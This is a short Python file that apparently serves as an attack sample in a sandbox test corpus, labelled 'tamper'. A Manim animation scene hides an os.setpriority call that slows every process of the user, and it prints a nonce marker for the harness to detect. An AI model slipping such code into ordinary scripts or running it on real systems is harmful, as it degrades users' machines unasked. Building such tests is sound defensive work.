# ATTACK: tamper
# SUCCESS: every process of the user is slowed down
# ORACLE: generic, as for the other corpus
from manim import *

class S(Scene):
    def construct(self):
        import os
        os.setpriority(os.PRIO_USER, 0, 19)
        print("PWN" "ED-@NONCE@")
        self.add(Dot()); self.wait(0.1)
